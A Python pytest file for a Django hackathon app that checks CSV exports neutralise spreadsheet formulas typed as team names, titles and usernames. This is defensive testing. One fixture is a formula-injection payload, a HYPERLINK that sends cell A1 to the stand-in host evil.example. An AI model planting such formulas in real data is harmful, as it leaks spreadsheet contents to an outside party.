"""Exports never hand a spreadsheet a formula that a participant typed as a name or title."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from judging.models import Criterion, JudgeAssignment
from judging.services import record_scores
from tests.site.factories import make_user
from tests.site.hackathon import (
    hackathon,
    in_english,  # noqa: F401  (autouse)
    registered,
    team_with_project,
)

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
TEAM = "@SUM(1+1)"


def test_results_csv_keeps_a_formula_title_as_text():
    event = hackathon("csv-formulas")
    organizer, judge = make_user("csv-org"), make_user("csv-judge")
    event.roles.create(user=organizer, role="organizer")
    event.roles.create(user=judge, role="judge")
    (ann,) = registered(event, "csv-ann")
    team = team_with_project(event, TEAM, [ann], title=TITLE)
    criterion = Criterion.objects.create(event=event, name="Impact", weight=1, max_points=5)
    assignment = JudgeAssignment.objects.create(event=event, project=team.project, judge=judge)
    record_scores(assignment, {criterion.pk: 4}, "ok")
    client = Client()
    client.force_login(organizer)
    body = client.get(reverse("event-results-csv", args=[event.slug])).content.decode()
    row = list(csv.reader(io.StringIO(body)))[1]
    assert row[1] == "'" + TITLE and row[2] == "'" + TEAM


def test_audit_csv_keeps_a_formula_label_as_text():
    from audit import record
    from teams.models import Team

    staff = make_user("csv-staff")
    staff.is_staff = True
    staff.save()
    event = hackathon("csv-audit")
    (ann,) = registered(event, "csv-ann2")
    team = team_with_project(event, "=1+1", [ann])
    record(staff, "teams.rename", Team.objects.get(pk=team.pk), {"name": "x"}, {"name": "=1+1"})
    client = Client()
    client.force_login(staff)
    body = client.get(reverse("audit-csv")).content.decode("utf-8-sig")
    labels = [row[6] for row in csv.reader(io.StringIO(body))][1:]
    assert "'=1+1" in labels and "=1+1" not in labels


def test_gradebook_csv_keeps_a_formula_username_as_text(published, people):
    student = people["student"]
    student.username, student.email = "@SUM(1+1)", "=1+1@example.org"
    student.save()
    client = Client()
    client.force_login(people["instructor"])
    body = client.get(reverse("gradebook-csv", args=[published["cohort"].pk])).content.decode()
    row = list(csv.reader(io.StringIO(body)))[1]
    assert row[:2] == ["'@SUM(1+1)", "'=1+1@example.org"]
